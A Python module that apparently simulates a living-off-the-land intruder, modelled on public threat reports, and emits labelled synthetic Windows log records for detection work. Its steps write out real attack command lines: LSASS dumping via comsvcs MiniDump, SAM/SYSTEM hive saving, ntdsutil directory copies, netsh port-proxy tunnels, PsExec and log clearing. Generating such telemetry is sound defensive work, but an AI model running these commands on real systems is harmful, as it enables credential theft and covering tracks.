"""An intruder who lives off the land: documented behaviours as steps, steps as playbooks. Text in log records only.

Behaviours follow public reporting (AA23-144A, AA24-038A and ATT&CK G1017), by what they do; names, paths, addresses and
wording are made up. Every row carries the behaviour and the chains that it is a step of.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from random import Random
from typing import Final

from lotl.simulate import obfuscate
from lotl.simulate.estate import Account, Host, Process, Session
from lotl.simulate.feed import NO_LABEL, Feed, Label
from lotl.simulate.ordinary import SECOND, ntds_export
from lotl.simulate.programs import PROGRAMS, Program

DISCOVERY: Final = (
    # behaviour, program, arguments, role that it needs ("": any)
    ("VT-032", "wmic", "logicaldisk get deviceid,filesystem,size", ""),
    ("VT-033", "wmic", "volume get driveletter,label,freespace", ""),
    ("VT-034", "wmic", "service where started=true get name,startname", ""),
    ("VT-035", "wmic", "product get vendor,name", ""),
    ("VT-036", "wmic", "baseboard get manufacturer,product", ""),
    ("VT-037", "wmic", "process get parentprocessid,processid,name", ""),
    ("VT-039", "tasklist", "/svc /fo list", ""),
    ("VT-040", "systeminfo", "", ""),
    ("VT-041", "whoami", "/all", ""),
    ("VT-042", "ipconfig", "/all", ""),
    ("VT-043", "arp", "-a", ""),
    ("VT-044", "netstat", "-ano", ""),
    ("VT-045", "ping", "-n 1 {address}", ""),
    ("VT-046", "curl", "-s https://whatismyip.example.net/json", ""),
    ("VT-047", "dnscmd", "localhost /enumzones", "dc"),
    ("VT-048", "ldifde", "-r (objectcategory=computer) -p subtree -f {stage}\\{token}.txt", "dc"),
    ("VT-049", "net", "localgroup administrators", ""),
    ("VT-050", "net", 'group "Enterprise Admins" /domain', ""),
    ("VT-051", "net", "user /domain", ""),
    ("VT-052", "quser", "", ""),
    ("VT-053", "net", "start", ""),
    ("VT-054", "net", "time /domain", ""),
    ("VT-055", "netsh", "advfirewall show allprofiles", ""),
    ("VT-056", "netsh", "interface portproxy show v4tov4", ""),
    ("VT-057", "reg", "query HKLM\\SOFTWARE", ""),
    ("VT-058", "nltest", "/domain_trusts /all_trusts", ""),
    ("VT-064", "net", "view /all", ""),
)
"""Discovery commands."""

CREDENTIALS: Final = (
    ("VT-026", "reg", "query HKCU\\Software\\SimonTatham\\PuTTY\\Sessions /s"),
    ("VT-026", "reg", "query HKLM\\SOFTWARE\\RealVNC /s /f pass"),
    ("VT-026", "reg", "query HKLM\\SOFTWARE\\OpenSSH /s"),
    ("VT-027", "cmd", "/c dir /a C:\\Users\\{user}\\.ssh"),
    ("VT-027", "cmd", "/c dir /s C:\\Users\\{user}\\AppData\\Roaming\\Mozilla\\Firefox\\Profiles"),
    ("VT-018", "reg", "save HKLM\\SAM {stage}\\{token}a.dat /y"),
    ("VT-018", "reg", "save HKLM\\SYSTEM {stage}\\{token}b.dat /y"),
)
"""Where the intruder looks for credentials."""

PLAYBOOKS: Final[dict[str, tuple[str, ...]]] = {
    "full": (
        "arrive", "recon", "hunt_credentials", "read_logons", "dump_lsass", "reach_controller", "recon", "copy_directory",
        "archive", "remote_start", "open_tunnel", "masquerade", "close_tunnel", "clear_logs", "leave",
    ),
    "ntds": ("arrive", "recon", "reach_controller", "copy_directory", "archive", "clear_logs", "leave"),
    "tunnel": ("arrive", "recon", "open_tunnel", "masquerade", "close_tunnel", "leave"),
    "credentials": ("arrive", "recon", "hunt_credentials", "dump_lsass", "leave"),
    "remote": ("arrive", "recon", "remote_start", "clear_logs", "leave"),
}  # fmt: skip
"""Steps of whole intrusions; each is a method of `Intruder`."""


class Intruder:
    """One intruder with one stolen account.

    Parameters
    ----------
    feed : Feed
    rng : Random
    time : int
        When the intrusion starts, microseconds since 1970 UTC.
    level : int
        Obfuscation, see `lotl.simulate.obfuscate`.
    """

    def __init__(self, feed: Feed, rng: Random, time: int, level: int) -> None:
        self.feed, self.rng, self.now, self.level = feed, rng, time, level
        self.estate = feed.estate
        self.account: Account = rng.choice(self.estate.admins)
        self.address = f"198.51.100.{rng.randrange(2, 250)}"
        self.host: Host = rng.choice(self.estate.servers())
        self.foothold = self.host
        self.token = "".join(rng.choice("bcdfghjkmnpqrstvwxz") for _ in range(6))
        self.stage = rng.choice(("C:\\Windows\\Temp\\", "C:\\Users\\Public\\", "C:\\PerfLogs\\")) + self.token
        self.session: Session = self.host.system
        self.shell: Process = self.host.processes["services"]
        self._sessions: list[tuple[Host, Session, Process]] = []

    def play(self, playbook: str) -> None:
        """Take all steps of a playbook, some minutes apart."""
        for step in PLAYBOOKS[playbook]:
            getattr(self, step)()
            self.wait(120, 900)

    # --- means --------------------------------------------------------------------------------------------------------

    def wait(self, low: float, high: float) -> int:
        """Let `low` to `high` seconds pass; return the time."""
        self.now += int(self.rng.uniform(low, high) * SECOND)
        return self.now

    @contextmanager
    def labelled(self, behaviour: str, chain: str) -> Iterator[None]:
        """Label the rows made inside."""
        before, self.feed.label = self.feed.label, Label(behaviour, chain)
        try:
            yield
        finally:
            self.feed.label = before

    def run(
        self, behaviour: str, chain: str, program: str, arguments: str, *, image: str = "", builtin: bool = False
    ) -> Process:
        """Type a command into the shell: the interpreter's process and the program's, both with their ends.

        Parameters
        ----------
        image : str, optional
            Path of the program when it has been renamed or copied.
        builtin : bool
            A command of the interpreter itself: no further process.
        """
        about = PROGRAMS[program]
        path = image or about.image
        name = path if image else path.rpartition("\\")[2].removesuffix(".exe").removesuffix(".EXE").lower()
        with self.labelled(behaviour, chain):
            if builtin:
                line = obfuscate.type_out("cmd", "", arguments, min(self.level, obfuscate.TYPED), self.rng)
                return self._interpreter(line.shell.strip())
            line = obfuscate.type_out(program, name, arguments, self.level, self.rng)
            above = self._interpreter(line.shell, plain=f"{name} {arguments}".rstrip())
            child = self._start(path, line.child, above, about if image else None)
            if program == "net":
                text = line.child.replace(line.child.split(" ")[0], "C:\\Windows\\system32\\net1", 1)
                self._start(PROGRAMS["net1"].image, text, child, None)
            return child

    def _interpreter(self, text: str, *, plain: str = "") -> Process:
        """Start what runs the command: cmd, nested cmd, or PowerShell with an encoded script."""
        command = f"C:\\Windows\\system32\\cmd.exe /c {text}"
        if self.level >= obfuscate.NESTED and plain and self.rng.random() < 0.5:
            shell = self._start(
                PROGRAMS["powershell"].image, obfuscate.encoded(plain, self.rng), self.shell, None, lasting=30
            )
            self.feed.engine_started(self.host, self.now + 120_000, shell)
            self.feed.powershell(self.host, self.now + 250_000, shell, plain)
            return shell
        if self.level >= obfuscate.NESTED:
            outer = obfuscate.caret(f'cmd /v:off /c "{text}"', self.rng)
            above = self._start(
                PROGRAMS["cmd"].image, f"C:\\Windows\\system32\\cmd.exe /c {outer}", self.shell, None, lasting=20
            )
            return self._start(PROGRAMS["cmd"].image, f'cmd  /v:off /c "{text}"', above, None, lasting=15)
        return self._start(PROGRAMS["cmd"].image, command, self.shell, None, lasting=15)

    def _start(self, image: str, command: str, parent: Process, about: Program | None, *, lasting: int = 3) -> Process:
        self.now += self.rng.randrange(20_000, 90_000)
        folder = "C:\\Windows\\system32\\" if self.session.kind != 10 else f"C:\\Users\\{self.account.name}\\"
        child = self.feed.process(
            self.host, self.now, image, command, self.session, parent, integrity="High", folder=folder, original=about
        )
        self.feed.exit(self.host, self.now + self.rng.randrange(1, lasting + 1) * SECOND, child)
        return child

    def _enter(
        self, host: Host, kind: int, address: str, behaviour: str, chain: str, *, origin: Host | None = None
    ) -> None:
        """Log on to a host and get a shell there."""
        with self.labelled(behaviour, chain):
            terminal = self.rng.randrange(3, 9) if kind == 10 else 0
            session = self.feed.logon(
                host, self.now, self.account, kind, source=origin, address=address, elevated=True, terminal=terminal
            )
            parent = host.processes["wmiprvse"]
            if kind == 10:
                self.feed.remote_desktop(host, self.now + SECOND, session, "rdp_logon")
                parent = self.feed.process(
                    host, self.now + 2 * SECOND, PROGRAMS["explorer"].image, "C:\\Windows\\Explorer.EXE", session,
                    host.processes["winlogon"],
                )  # fmt: skip
            self.wait(3, 9)
            self.host, self.session = host, session
            command = '"C:\\Windows\\system32\\cmd.exe" '
            self.shell = self.feed.process(host, self.now, PROGRAMS["cmd"].image, command, session, parent)
        self._sessions.append((host, session, self.shell))

    def fill(self, text: str) -> str:
        """Fill the blanks of a command."""
        target = self.rng.choice(self.estate.hosts).address
        return text.format(
            stage=self.stage,
            token=self.token,
            address=target,
            user=self.rng.choice(self.estate.users or [self.account]).name,
        )

    # --- steps --------------------------------------------------------------------------------------------------------

    def arrive(self) -> None:
        """Log on with valid credentials from an address that was never seen, after a failure or two."""
        with self.labelled("VT-031", "C-09"):
            for _ in range(self.rng.randrange(1, 3)):
                self.feed.failed_logon(self.host, self.wait(4, 20), self.account.name, self.address, kind=10)
        self.wait(5, 30)
        self._enter(self.host, 10, self.address, "VT-069", "C-09")

    def recon(self) -> None:
        """Look around: six to ten discovery commands within minutes."""
        fitting = [row for row in DISCOVERY if row[3] in ("", self.host.role)]
        for behaviour, program, arguments, _ in self.rng.sample(fitting, self.rng.randrange(6, 11)):
            self.wait(4, 45)
            child = self.run(behaviour, "C-01 C-09", program, self.fill(arguments))
            if program == "curl":
                with self.labelled(behaviour, "C-01"):
                    self.feed.dns(self.host, self.now, child, "whatismyip.example.net", "::ffff:203.0.113.99;")
                    self.feed.network(self.host, self.now + 80_000, child, "203.0.113.99", 443)

    def hunt_credentials(self) -> None:
        """Search for stored keys and save the hives."""
        self._stage_folder()
        for behaviour, program, arguments in CREDENTIALS:
            self.wait(10, 90)
            text = self.fill(arguments)
            builtin = program == "cmd"
            child = self.run(behaviour, "C-15 C-09", program, text.removeprefix("/c "), builtin=builtin)
            if behaviour == "VT-018":
                with self.labelled(behaviour, "C-15"):
                    self.feed.file(self.host, self.now + 200_000, child, text.split(" ")[2])

    def _stage_folder(self) -> None:
        self.wait(2, 20)
        self.run("VT-077", "C-17", "cmd", f"md {self.stage}", builtin=True)

    def read_logons(self) -> None:
        """Read who logs on from where, out of the Security log."""
        self.wait(10, 60)
        query = f'query-events Security /c:400 /rd:true /f:text "/q:*[System[EventID=4624]]" > {self.stage}\\{self.token}.txt'
        self.run("VT-060", "C-14", "wevtutil", query)
        self.wait(20, 90)
        with self.labelled("VT-059", "C-14"):
            script = "Get-EventLog -LogName Security -InstanceId 4624 -Newest 300 | Select-Object TimeGenerated,Message"
            text = obfuscate.encoded(script, self.rng) if self.level >= 3 else "powershell.exe -nologo"
            shell = self._start(PROGRAMS["powershell"].image, text, self.shell, None, lasting=40)
            self.feed.engine_started(self.host, self.now + 100_000, shell)
            self.feed.powershell(self.host, self.wait(2, 9), shell, script)
            self.feed.file(self.host, self.now + SECOND, shell, f"C:\\Users\\Public\\Documents\\{self.token}.dat")

    def dump_lsass(self) -> None:
        """Write LSASS memory to a file with a library that Windows brings."""
        lsass = self.host.processes["lsass"]
        target = f"{self.stage}\\{self.token}.bin"
        self.wait(10, 60)
        self.run("VT-039", "C-16", "tasklist", '/fi "imagename eq lsass.exe"')
        child = self.run(
            "VT-019", "C-16", "rundll32", f"C:\\Windows\\System32\\comsvcs.dll MiniDump {lsass.pid} {target} full"
        )
        with self.labelled("VT-021", "C-16"):
            library = "C:\\Windows\\System32\\comsvcs.dll"
            self.feed.module(self.host, self.now + 30_000, child, library, "COM+ Services")
            trace = (
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                "C:\\Windows\\System32\\dbgcore.dll+6cfd|C:\\Windows\\System32\\comsvcs.dll+27afc"
            )
            self.feed.access(self.host, self.now + 200_000, child, lsass, 0x1FFFFF, trace)
        with self.labelled("VT-019", "C-16"):
            self.feed.file(self.host, self.now + 300_000, child, target)
        self.wait(60, 200)
        child = self.run("VT-081", "C-16", "cmd", f"del /q {target}", builtin=True)
        with self.labelled("VT-081", "C-16"):
            self.feed.delete(self.host, self.now, child, target)

    def reach_controller(self) -> None:
        """Move to the domain controller by remote desktop."""
        source, controller = self.host, self.estate.controller
        with self.labelled("VT-069", "C-09 C-14"):
            self.feed.explicit_logon(source, self.wait(5, 30), self.session, self.account, controller, self.shell)
        self._enter(controller, 10, source.address, "VT-066", "C-10 C-09", origin=source)

    def copy_directory(self) -> None:
        """Copy the directory database: a shadow copy by hand, then install media."""
        if self.host is not self.estate.controller:
            self.reach_controller()
        self._stage_folder()
        self.wait(20, 90)
        self.run("VT-016", "C-03", "vssadmin", f"create shadow /for=C: > {self.stage}\\{self.token}.log")
        self.wait(60, 400)
        target = f"{self.stage}\\db"
        text = f'"activate instance ntds" ifm "create full {target}" quit quit'
        child = self.run("VT-012" if self.level == 0 else "VT-011", "C-03 C-04 C-09", "ntdsutil", text)
        with self.labelled("VT-014", "C-03"):
            ntds_export(self.feed, self.host, self.now + 2 * SECOND, child, target)
        self.wait(60, 120)

    def archive(self) -> None:
        """Pack the copy with a renamed archiver, give it a harmless name, carry it off over SMB, delete the rest."""
        renamed = f"{self.stage}\\{self.token[:4]}.exe"
        packed, harmless = f"{self.stage}\\{self.token}.rar", f"{self.stage}\\{self.token}.gif"
        self.wait(30, 200)
        child = self.run(
            "VT-073", "C-04 C-17", "rar", f"a -m5 -hp{self.token[::-1]} {packed} {self.stage}\\db", image=renamed
        )
        with self.labelled("VT-072", "C-04 C-17"):
            self.feed.file(self.host, self.now + 2 * SECOND, child, packed)
        self.wait(20, 120)
        child = self.run("VT-083", "C-04", "cmd", f"move {packed} {harmless}", builtin=True)
        with self.labelled("VT-076", "C-04"):
            self.feed.file(self.host, self.now + 100_000, child, harmless)
        self.wait(20, 200)
        with self.labelled("VT-078", "C-04"):
            session = self.feed.logon(self.host, self.now, self.account, 3, source=self.foothold, elevated=True)
            share = self.stage.removeprefix("C:\\")
            self.feed.share(self.host, self.now + 30_000, session, "C$", "\\??\\C:\\", (f"{share}\\{self.token}.gif",))
            self.feed.logoff(self.host, self.now + 40 * SECOND, session)
        self.wait(60, 400)
        child = self.run("VT-081", "C-04 C-17", "cmd", f"rd /q /s {self.stage}", builtin=True)
        with self.labelled("VT-081", "C-04 C-17"):
            for path in (harmless, renamed, f"{self.stage}\\db\\Active Directory\\ntds.dit"):
                self.feed.delete(self.host, self.now + 50_000, child, path)

    def remote_start(self) -> None:
        """Start commands on another machine through WMI."""
        source, session, shell = self.host, self.session, self.shell
        others = [host for host in self.estate.hosts if host is not source]
        if not others:
            return
        target = self.rng.choice(others)
        inner = (
            f"cmd.exe /c vssadmin list shadows > {self.stage}.txt"
            if target.role == "dc"
            else f"cmd.exe /c quser > {self.stage}.txt"
        )
        self.wait(10, 60)
        self.run("VT-002", "C-08", "wmic", f'/node:{target.name} process call create "{inner}"')
        with self.labelled("VT-002", "C-08"):
            self.feed.explicit_logon(source, self.now + 60_000, session, self.account, target, shell)
            reached = self.feed.logon(target, self.now + 200_000, self.account, 3, source=source, elevated=True)
            self.feed.wmi_provider(target, self.now + 250_000)
        with self.labelled("VT-003", "C-08 C-02"):
            provider = target.processes["wmiprvse"]
            image = PROGRAMS["cmd"].image
            child = self.feed.process(target, self.now + 400_000, image, inner, reached, provider, integrity="High")
            tool = PROGRAMS["vssadmin" if target.role == "dc" else "quser"]
            text = "vssadmin  list shadows" if target.role == "dc" else "quser"
            below = self.feed.process(target, self.now + 450_000, tool.image, text, reached, child, integrity="High")
            self.feed.file(target, self.now + 480_000, child, f"{self.stage}.txt")
            self.feed.exit(target, self.now + SECOND, below)
            self.feed.exit(target, self.now + SECOND + 20_000, child)
            self.feed.logoff(target, self.now + 15 * SECOND, reached)

    def open_tunnel(self) -> None:
        """Forward a port, and let the firewall know."""
        self.port = self.rng.randrange(20000, 60000)
        inside = self.rng.choice(self.estate.hosts).address
        self.wait(10, 60)
        text = f"interface portproxy add v4tov4 listenport={self.port} connectport=3389 connectaddress={inside}"
        self.run("VT-090", "C-06 C-07", "netsh", text)
        with self.labelled("VT-088", "C-06"):
            key = f"HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\*/{self.port}"
            self.feed.registry(self.host, self.now + 150_000, self.host.processes["iphlpsvc"], key, f"{inside}/3389")
        self.wait(10, 60)
        rule = f"Core Networking {self.token}"
        text = f'advfirewall firewall add rule name="{rule}" dir=in action=allow protocol=TCP localport={self.port}'
        child = self.run("VT-092", "C-06", "netsh", text)
        with self.labelled("VT-092", "C-06"):
            self.feed.firewall_rule(self.host, self.now + 100_000, self.session, rule, self.port, child)
        with self.labelled("VT-093", "C-06"):
            listener = self.host.processes["iphlpsvc"]
            self.feed.network(self.host, self.wait(20, 90), listener, self.address, self.port, initiated=False)
            self.feed.network(self.host, self.now + 50_000, listener, inside, 3389)

    def masquerade(self) -> None:
        """Run a relay under the name of a system program, from where that program never is."""
        image = f"{self.stage}\\WmiPrvSE.exe"
        with self.labelled("VT-085", "C-19"):
            self.feed.file(self.host, self.wait(5, 30), self.shell, image)
            child = self._start(image, f'"{image}" -c {self.token}.ini', self.shell, PROGRAMS["unknown"], lasting=900)
        with self.labelled("VT-093", "C-19"):
            for _ in range(3):
                port = self.rng.choice((8080, 8443, 8043, 8000, 10443))
                self.feed.network(self.host, self.wait(5, 60), child, self.address, port)

    def close_tunnel(self) -> None:
        """Remove the forwarding from another machine, with a service that is installed for it."""
        target, source = self.host, self.rng.choice(self.estate.hosts)
        if source is not target:
            arguments = (
                f"\\\\{target.name} -accepteula -s netsh interface portproxy delete v4tov4 listenport={self.port}"
            )
            with self.labelled("VT-007", "C-08 C-07"):
                time = self.wait(600, 3000)
                session = self.feed.logon(source, time, self.account, 3, source=target, elevated=True)
                parent = source.processes["wmiprvse"]
                tool = PROGRAMS["psexec"].image
                psexec = self.feed.process(
                    source, time + SECOND, tool, f"{tool} {arguments}", session, parent, integrity="High"
                )
                key = f"HKU\\{self.account.sid}\\SOFTWARE\\Sysinternals\\PsExec\\EulaAccepted"
                self.feed.registry(source, time + 1_100_000, psexec, key, "DWORD (0x00000001)")
                self.feed.explicit_logon(source, time + 1_200_000, session, self.account, target, psexec)
                self.feed.exit(source, time + 20 * SECOND, psexec)
            self._service(time + 2 * SECOND, target, source)
            self.now = time + 4 * SECOND
            self.shell = self._relay
        command = f"interface portproxy delete v4tov4 listenport={self.port}"
        self.run("VT-091", "C-07", "netsh", command)
        with self.labelled("VT-088", "C-07"):
            key = f"HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\*/{self.port}"
            self.feed.registry_key(self.host, self.now + 90_000, self.host.processes["iphlpsvc"], key, "DeleteValue")
        self.shell = self._sessions[-1][2]

    def _service(self, time: int, target: Host, source: Host) -> None:
        """The far end of a remote service start: logon, share, file, service, pipe."""
        with self.labelled("VT-008", "C-08"):
            session = self.feed.logon(target, time, self.account, 3, source=source, elevated=True)
            self.feed.share(
                target, time + 20_000, session, "ADMIN$", "\\??\\C:\\Windows", ("PSEXESVC.exe",), write=True
            )
            image = PROGRAMS["psexesvc"].image
            self.feed.file(target, time + 60_000, target.processes["system"], image)
            self.feed.service_installed(target, time + 90_000, session, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
            above = target.processes["services"]
            self._relay = self.feed.process(target, time + 200_000, image, image, target.system, above)
            self.feed.service_state(target, time + 210_000, "PSEXESVC", "running")
            self.feed.pipe(target, time + 300_000, self._relay, "\\PSEXESVC", created=True)
            self.feed.pipe(target, time + 350_000, target.processes["system"], "\\PSEXESVC", created=False)

    def clear_logs(self) -> None:
        """Clear logs on the current machine."""
        for channel in ("System", "Security"):
            self.wait(5, 40)
            self.run("VT-080", "C-11", "wevtutil", f"clear-log {channel}")
            with self.labelled("VT-080", "C-11"):
                self.feed.log_cleared(self.host, self.now + 200_000, self.session, channel)

    def leave(self) -> None:
        """Log off everywhere, last in first out."""
        for host, session, shell in reversed(self._sessions):
            self.host, self.session, self.shell = host, session, shell
            self.wait(5, 40)
            self.run("VT-107", "", "logoff", "")
            with self.labelled("VT-107", ""):
                self.feed.exit(host, self.now + SECOND, shell)
                self.feed.remote_desktop(host, self.now + 2 * SECOND, session, "rdp_logoff")
                self.feed.logoff(host, self.now + 3 * SECOND, session)
        self.feed.label = NO_LABEL
